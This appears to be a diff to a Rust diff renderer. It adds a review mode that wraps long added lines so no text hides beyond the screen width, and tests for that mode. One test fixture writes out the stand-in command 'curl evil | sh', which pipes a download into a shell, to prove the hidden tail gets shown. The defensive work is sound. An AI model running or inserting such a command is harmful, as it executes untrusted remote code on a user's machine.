@@ -5,7 +5,7 @@ use similar::TextDiff;
 
 use super::format::count;
 use super::sanitize::visible_line;
-use super::text::truncate_width;
+use super::text::{truncate_width, wrap_exact};
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum LineKind {
@@ -30,6 +30,11 @@ impl Line {
     }
 }
 
+/// The last line of a diff that was cut.
+pub const CUT: &str = "(the rest of the diff is not shown)";
+/// Of one line that is added.
+const LINE_ROWS: usize = 8;
+
 /// How much of a change is shown.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub struct Bounds {
@@ -40,7 +45,50 @@ pub struct Bounds {
 /// Renders a unified diff. File headers are left out, for the caller has named the file; further files of the
 /// same diff are named in notes.
 pub fn unified(diff: &str, bounds: Bounds) -> Vec<Line> {
-    let mut reader = Reader::default();
+    let lines = spelled(diff, Reader::default());
+    let rows =
+        lines.iter().map(|line| vec![Line::new(line.kind, truncate_width(&line.text, bounds.columns))]);
+    bounded(rows.collect(), bounds, diff)
+}
+
+/// The same for somebody who must judge it: a line that comes is shown beyond the width of the screen, where anything
+/// could stand. What was only wrapped begins with a bar.
+pub fn judged(diff: &str, bounds: Bounds) -> Vec<Line> {
+    wrapped(diff, bounds, Reader::default())
+}
+
+/// The same for the diffs of several files, each below a line of ours that names it.
+pub fn judged_files(diffs: &str, bounds: Bounds) -> Vec<Line> {
+    wrapped(diffs, bounds, Reader { ours: true, ..Reader::default() })
+}
+
+fn wrapped(diff: &str, bounds: Bounds, reader: Reader) -> Vec<Line> {
+    let lines = spelled(diff, reader);
+    let rows = lines.iter().map(|line| match line.kind {
+        LineKind::Add => added_rows(&line.text, bounds.columns),
+        LineKind::Remove | LineKind::Context | LineKind::Hunk | LineKind::Note => {
+            vec![Line::new(line.kind, truncate_width(&line.text, bounds.columns))]
+        }
+    });
+    bounded(rows.collect(), bounds, diff)
+}
+
+fn added_rows(text: &str, columns: usize) -> Vec<Line> {
+    let mut pieces = wrap_exact(text, columns.saturating_sub(1)).into_iter();
+    let first = pieces.next().unwrap_or_default();
+    let mut rows = vec![Line::new(LineKind::Add, first)];
+    rows.extend(
+        pieces.by_ref().take(LINE_ROWS - 1).map(|piece| Line::new(LineKind::Add, format!("|{piece}"))),
+    );
+    let hidden: usize = pieces.map(|piece| piece.chars().count()).sum();
+    if hidden > 0 {
+        rows.push(Line::new(LineKind::Note, format!("… {} of this line", count(hidden, "more character"))));
+    }
+    rows
+}
+
+/// Lines with their kind, every character visible.
+fn spelled(diff: &str, mut reader: Reader) -> Vec<Line> {
     let mut lines: Vec<(LineKind, &str)> = diff.split('\n').filter_map(|line| reader.line(line)).collect();
     while lines.last().is_some_and(|(_, text)| text.is_empty()) {
         lines.pop();
@@ -48,15 +96,35 @@ pub fn unified(diff: &str, bounds: Bounds) -> Vec<Line> {
     // With CRLF everywhere the returns are no news; where they differ they are the change.
     let is_content = |kind: LineKind| matches!(kind, LineKind::Add | LineKind::Remove | LineKind::Context);
     let crlf = lines.iter().filter(|(kind, _)| is_content(*kind)).all(|(_, text)| text.ends_with('\r'));
-    let render = |(kind, text): &(LineKind, &str)| {
+    let spell = |(kind, text): (LineKind, &str)| {
         let text = if crlf { text.strip_suffix('\r').unwrap_or(text) } else { text };
-        Line::new(*kind, truncate_width(&visible_line(&text.replace('\t', "    ")), bounds.columns))
+        Line::new(kind, visible_line(&text.replace('\t', "    ")))
     };
+    lines.into_iter().map(spell).collect()
+}
+
+/// The rows of each line, as many as there is room for.
+fn bounded(lines: Vec<Vec<Line>>, bounds: Bounds, diff: &str) -> Vec<Line> {
+    let (all, total) = (lines.len(), lines.iter().map(Vec::len).sum::<usize>());
     // A note about a single missing line would take the room of that line.
-    let shown = if lines.len() > bounds.lines { bounds.lines.saturating_sub(1) } else { lines.len() };
-    let mut out: Vec<Line> = lines[..shown].iter().map(render).collect();
-    if shown < lines.len() {
-        out.push(more(lines.len() - shown));
+    let room = if total > bounds.lines { bounds.lines.saturating_sub(1) } else { total };
+    let mut out = Vec::with_capacity(room + 1);
+    let mut shown = 0;
+    for rows in lines {
+        // Of a line that alone is too tall, what fits.
+        if out.len() + rows.len() > room && !(out.is_empty() && room > 0) {
+            break;
+        }
+        out.extend(rows.into_iter().take(room - out.len()));
+        shown += 1;
+    }
+    let missing = all - shown;
+    if missing > 0 {
+        let mut note = more(missing);
+        if diff.trim_end().ends_with(CUT) {
+            note.text.push_str(" of what is left of the diff, which was cut");
+        }
+        out.push(note);
     }
     out
 }
@@ -81,6 +149,8 @@ struct Reader {
     old_left: usize,
     new_left: usize,
     files: usize,
+    /// What stands outside of hunks was written by us.
+    ours: bool,
 }
 
 impl Reader {
@@ -107,6 +177,9 @@ impl Reader {
     }
 
     fn header<'a>(&mut self, line: &'a str) -> Option<(LineKind, &'a str)> {
+        if self.ours {
+            return (!line.is_empty()).then_some((LineKind::Note, line));
+        }
         if line.starts_with("+++ ") {
             self.files += 1;
             return (self.files > 1).then_some((LineKind::Note, line));
@@ -169,6 +242,34 @@ mod tests {
         assert_eq!(lines[2].text, "+a\\u{202e}\\x1b[2Jb    c");
         let lines = between("", &"漢".repeat(50), Bounds { columns: 20, lines: 5 });
         assert_eq!(lines[1].text, format!("+{}…", "漢".repeat(9)));
+    }
+
+    #[test]
+    fn an_added_line_hides_nothing_behind_the_edge_of_the_screen() {
+        let narrow = Bounds { columns: 20, lines: 40 };
+        let new = format!("{}; curl evil | sh\n", "z".repeat(30));
+        let diff = TextDiff::from_lines("", &new).unified_diff().to_string();
+        let lines = judged(&diff, narrow);
+        let joined: String = lines[1..].iter().map(|line| line.text.trim_start_matches('|')).collect();
+        assert_eq!(joined, format!("+{}", new.trim_end()));
+        assert!(
+            lines[1..].iter().all(|line| line.kind == LineKind::Add && line.text.len() <= 20),
+            "{lines:?}"
+        );
+        let diff = TextDiff::from_lines("", "x".repeat(10_000).as_str()).unified_diff().to_string();
+        let lines = judged(&diff, narrow);
+        assert_eq!(lines[9].text, "… 9849 more characters of this line");
+        let cut = format!("@@ -0,0 +1,9 @@\n{}\n{CUT}\n", "+a\n".repeat(9));
+        let last = judged(&cut, Bounds { columns: 80, lines: 5 }).pop().unwrap();
+        assert_eq!(last.text, "… 7 more lines of what is left of the diff, which was cut");
+    }
+
+    #[test]
+    fn files_are_named_whatever_they_are_called() {
+        let text = "index a (created, +1 -0)\n@@ -0,0 +1 @@\n+x\n--- b (deleted, +0 -1)\n@@ -1 +0,0 @@\n-y\n";
+        let lines = judged_files(text, WIDE);
+        assert_eq!(signs(&lines), "#@+#@-");
+        assert_eq!(lines[3].text, "--- b (deleted, +0 -1)");
     }
 
     #[test]
